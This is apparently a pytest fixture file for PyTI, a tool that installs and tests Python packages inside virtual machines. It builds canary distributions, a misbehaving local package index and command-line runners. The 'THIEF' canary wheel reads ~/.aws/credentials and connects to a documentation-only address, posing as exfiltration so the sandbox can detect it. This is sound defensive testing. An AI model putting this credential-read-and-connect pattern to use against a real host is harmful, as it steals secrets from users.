"""Real distributions through the whole of PyTI, once for all tests: real index, real machines, two slots."""

from __future__ import annotations

import asyncio
import base64
import hashlib
import io
import json
import os
import subprocess
import sys
import tarfile
import threading
import time
import zipfile
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import msgspec
import pytest

from pyti import FileChoice, Report, Settings, Submission, embedded
from pyti.config import IndexSettings, SlaveSettings
from pyti.machines import Image
from pyti.messages import SlavePresence
from pyti.roles import keep_collections_short, stored_file
from pyti.roles.loop_probe import Blocked, loop_probe

ALL_LIMIT_S = 1500
"""The first test of this folder waits for every job: about 5 minutes on two emulating cores (measured)."""

HERE = Path(__file__).parent


def pytest_collection_modifyitems(items: list[pytest.Item]) -> None:
    for item in items:
        if HERE in item.path.parents:
            item.add_marker(pytest.mark.timeout(ALL_LIMIT_S), append=False)


@dataclass(frozen=True)
class Observed:
    """What the run of all distributions left behind."""

    reports: Mapping[str, Report]
    blocked: tuple[Blocked, ...]
    presences: tuple[SlavePresence, ...]
    seconds: float


def wheel(name: str, version: str, files: Mapping[str, str], requires: tuple[str, ...] = ()) -> bytes:
    """Make a pure wheel (PEP 427) of these files."""
    info = f"{name}-{version}.dist-info"
    lines = ["Metadata-Version: 2.1", f"Name: {name}", f"Version: {version}"]
    lines += [f"Requires-Dist: {requirement}" for requirement in requires]
    content = {
        **files,
        f"{info}/METADATA": "\n".join(lines) + "\n",
        f"{info}/WHEEL": "Wheel-Version: 1.0\nGenerator: tests\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
    }
    record = ""
    for path, text in content.items():
        digest = base64.urlsafe_b64encode(hashlib.sha256(text.encode()).digest()).rstrip(b"=").decode()
        record += f"{path},sha256={digest},{len(text.encode())}\n"
    content[f"{info}/RECORD"] = record + f"{info}/RECORD,,\n"
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for path, text in content.items():
            archive.writestr(path, text)
    return out.getvalue()


def sdist(name: str, version: str, files: Mapping[str, str]) -> bytes:
    """Make a source distribution of these files; its PKG-INFO is old, so nothing of it can be trusted."""
    top = f"{name}-{version}"
    content = {**files, "PKG-INFO": f"Metadata-Version: 1.0\nName: {name}\nVersion: {version}\n"}
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w:gz") as archive:
        for path, text in content.items():
            member = tarfile.TarInfo(f"{top}/{path}")
            member.size = len(text.encode())
            member.mtime = int(time.time())
            archive.addfile(member, io.BytesIO(text.encode()))
    return out.getvalue()


THIEF = """
import os, socket
try:
    open(os.path.expanduser("~/.aws/credentials")).read()
    socket.create_connection(("192.0.2.1", 443), timeout=1)
except OSError:
    pass
"""
"""A harmless canary: it reads the guest's made-up credentials and calls an address that leads nowhere (RFC 5737)."""

DYNAMIC_SETUP = """
from setuptools import setup
wanted = ["idn" + "a"]
setup(name="dynamic-canary", version="1.0", py_modules=["dynamic_canary"], install_requires=wanted)
"""

TESTED = """
import unittest, clean_canary
class Behaviour(unittest.TestCase):
    def test_answer(self):
        self.assertEqual(clean_canary.answer(), 42)
"""


def local_files(folder: Path) -> dict[str, Path]:
    """Write the distributions that are made here; by the name of their case."""
    made = {
        "clean": ("clean_canary-1.0-py3-none-any.whl", wheel("clean_canary", "1.0", {"clean_canary.py": "x = 1\n"})),
        "thief": (
            "thief_canary-1.0-py3-none-any.whl",
            wheel(
                "thief_canary", "1.0", {"thief_canary.py": THIEF, "thief_canary.pth": "import sys; sys.canary = 1\n"}
            ),
        ),
        "dynamic": (
            "dynamic_canary-1.0.tar.gz",
            sdist("dynamic_canary", "1.0", {"setup.py": DYNAMIC_SETUP, "dynamic_canary.py": "import idna\n"}),
        ),
    }
    paths = {}
    for case, (filename, data) in made.items():
        paths[case] = folder / filename
        paths[case].write_bytes(data)
    return paths


INDEX_CASES: dict[str, Submission] = {
    "docopt": Submission(requirement="docopt==0.6.2", choice=FileChoice.SDIST, profile="default"),
    "iniconfig": Submission(requirement="iniconfig==2.3.1", choice=FileChoice.SDIST, profile="default"),
    "simplejson": Submission(requirement="simplejson==3.20.1", choice=FileChoice.SDIST, profile="quick"),
    "markupsafe": Submission(requirement="markupsafe==3.0.4", choice=FileChoice.SDIST, profile="quick"),
    "sklearn": Submission(requirement="sklearn==0.0.post12", choice=FileChoice.SDIST, profile="quick"),
    "psycopg2": Submission(requirement="psycopg2==2.9.9", choice=FileChoice.SDIST, profile="quick"),
    "numpy": Submission(requirement="numpy==2.2.6", choice=FileChoice.WHEEL, profile="quick"),
    "requests": Submission(requirement="requests==2.32.3", profile="quick"),
    "six": Submission(requirement="six==1.17.0", profile="full"),
}
"""The distributions of the real index, the longest first, so that both slots end at about the same time."""


async def run_everything(settings: Settings, files: Mapping[str, Path]) -> Observed:
    blocked: list[Blocked] = []
    presences: list[SlavePresence] = []
    started = time.monotonic()
    async with embedded(settings) as master:
        keep_collections_short()
        cases = list(INDEX_CASES)
        submissions = list(INDEX_CASES.values())
        for case, path in files.items():
            cases.append(case)
            submissions.append(Submission(file=await stored_file(path, master.blobs), profile="quick"))
        async with loop_probe(blocked.append):
            jobs = await master.submit(submissions)
            waiting = asyncio.gather(*(master.report(job.job) for job in jobs))
            while not waiting.done():
                await asyncio.wait({waiting}, timeout=5)
                presences.extend(await master.slaves())
            reports = await waiting
    return Observed(
        dict(zip(cases, reports, strict=True)), tuple(blocked), tuple(presences), time.monotonic() - started
    )


@pytest.fixture(scope="session")
def system_settings(machine_settings: Settings, image: Image, tmp_path_factory: pytest.TempPathFactory) -> Settings:
    """Images and templates that are there already; everything else fresh, the cache of the index included."""
    home = machine_settings.home
    folder = tmp_path_factory.mktemp("system")
    return msgspec.structs.replace(
        machine_settings,
        home=home,
        slave=SlaveSettings(slots=2, heartbeat_s=1.0),
        index=IndexSettings(),
        store=msgspec.structs.replace(
            machine_settings.store, url=f"sqlite+aiosqlite:///{folder}/pyti.sqlite", blobs=str(folder / "blobs")
        ),
    )


@pytest.fixture(scope="session")
def observed(system_settings: Settings, tmp_path_factory: pytest.TempPathFactory) -> Observed:
    """All distributions, tested in one run."""
    return asyncio.run(run_everything(system_settings, local_files(tmp_path_factory.mktemp("files"))))


@pytest.fixture(scope="session")
def report_of(observed: Observed) -> Callable[[str], Report]:
    """The report of one case."""
    return observed.reports.__getitem__


@pytest.fixture
def make_wheel() -> Callable[..., bytes]:
    """The maker of wheels, for tests that need one more."""
    return wheel


@pytest.fixture
def make_sdist() -> Callable[..., bytes]:
    """The maker of source distributions."""
    return sdist


class SmallIndex:
    """A package index on loopback that can be told to misbehave; a thread of its own, for commands in processes."""

    def __init__(self) -> None:
        self.files: dict[str, bytes] = {}
        self.hashes: dict[str, str] = {}
        self.yanked: dict[str, str] = {}
        self.faults: dict[str, str] = {}
        index = self

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                index.answer(self)

            def log_message(self, *_: object) -> None:
                """Say nothing."""

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_port}/simple/"

    def add(self, filename: str, data: bytes, *, sha256: str | None = None, yanked: str | None = None) -> None:
        self.files[filename] = data
        self.hashes[filename] = sha256 or hashlib.sha256(data).hexdigest()
        if yanked is not None:
            self.yanked[filename] = yanked

    def answer(self, handler: BaseHTTPRequestHandler) -> None:
        name = handler.path.strip("/").split("/")[-1]
        match self.faults.get(name):
            case "error":
                handler.send_error(503)
                return
            case "hang":
                time.sleep(5)
                return
            case "garbage":
                self._send(handler, b"\0" * 100, "application/vnd.pypi.simple.v1+json")
                return
            case "truncated":
                body = self.files[name]
                handler.send_response(200)
                handler.send_header("Content-Length", str(len(body)))
                handler.end_headers()
                handler.wfile.write(body[: len(body) // 2])
                return
        if handler.path.startswith("/files/"):
            self._send(handler, self.files[name], "application/octet-stream")
            return
        entries = [
            {
                "filename": filename,
                "url": f"/files/{filename}",
                "hashes": {"sha256": self.hashes[filename]},
                "size": len(data),
                "yanked": self.yanked.get(filename, False),
            }
            for filename, data in self.files.items()
            if filename.split("-")[0].replace("_", "-") == name
        ]
        if not entries:
            handler.send_error(404)
            return
        page = {"meta": {"api-version": "1.1"}, "name": name, "files": entries, "versions": []}
        self._send(handler, json.dumps(page).encode(), "application/vnd.pypi.simple.v1+json")

    @staticmethod
    def _send(handler: BaseHTTPRequestHandler, body: bytes, media_type: str) -> None:
        handler.send_response(200)
        handler.send_header("Content-Type", media_type)
        handler.send_header("Content-Length", str(len(body)))
        handler.end_headers()
        handler.wfile.write(body)


@pytest.fixture
def small_index() -> Iterator[SmallIndex]:
    """An index of the test's own."""
    index = SmallIndex()
    thread = threading.Thread(target=index.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True)
    thread.start()
    try:
        yield index
    finally:
        index.server.shutdown()
        index.server.server_close()
        thread.join(5)


@dataclass(frozen=True)
class Done:
    """A command that has ended."""

    status: int
    out: str
    err: str


class Command:
    """Runs ``pyti`` in processes of its own, with the shared images and a store of the test's own."""

    def __init__(self, home: Path, folder: Path) -> None:
        self.home = home
        self.folder = folder
        self.environment = {
            **os.environ,
            "PYTI_HOME": str(home),
            "PYTI_STORE__URL": f"sqlite+aiosqlite:///{folder}/pyti.sqlite",
            "PYTI_STORE__BLOBS": str(folder / "blobs"),
            "PYTI_INDEX__TIMEOUT_S": "3.0",
            "PYTI_INDEX__ATTEMPTS": "2",
            "COLUMNS": "200",
        }

    def start(self, *arguments: str) -> subprocess.Popen[str]:
        return subprocess.Popen(
            [sys.executable, "-m", "pyti", *arguments],
            env=self.environment,
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )

    def run(self, *arguments: str, limit_s: float = 180) -> Done:
        process = self.start(*arguments)
        try:
            out, err = process.communicate(timeout=limit_s)
        finally:
            if process.poll() is None:
                process.kill()
                process.communicate()
        return Done(process.returncode, out, err)


@pytest.fixture
def command(machine_settings: Settings, image: Image, tmp_path: Path, small_index: SmallIndex) -> Command:
    """The command line, asking the index of the test."""
    made = Command(machine_settings.home, tmp_path)
    made.environment["PYTI_INDEX__URL"] = small_index.url
    return made


@pytest.fixture
def remains(machine_settings: Settings) -> Callable[[int], list[str]]:
    """What a process of that id has left: domains, folders, sockets, processes."""

    def look(process: int) -> list[str]:
        mark = f"local-{process}-"
        domains = subprocess.run(
            ["virsh", "--connect", machine_settings.libvirt_uri, "list", "--all", "--name"],
            capture_output=True,
            text=True,
            check=True,
            timeout=30,
        ).stdout.split()
        processes = subprocess.run(["ps", "-eo", "args"], capture_output=True, text=True, check=True, timeout=30).stdout
        folder = machine_settings.home / "machines" / f"local-{process}"
        return [
            *(domain for domain in domains if mark in domain),
            *(line[:100] for line in processes.splitlines() if "qemu" in line and mark in line),
            *(str(path) for path in folder.rglob("*")),
            *map(str, (machine_settings.home / "slaves").glob(f"local-{process}.*")),
        ]

    return look
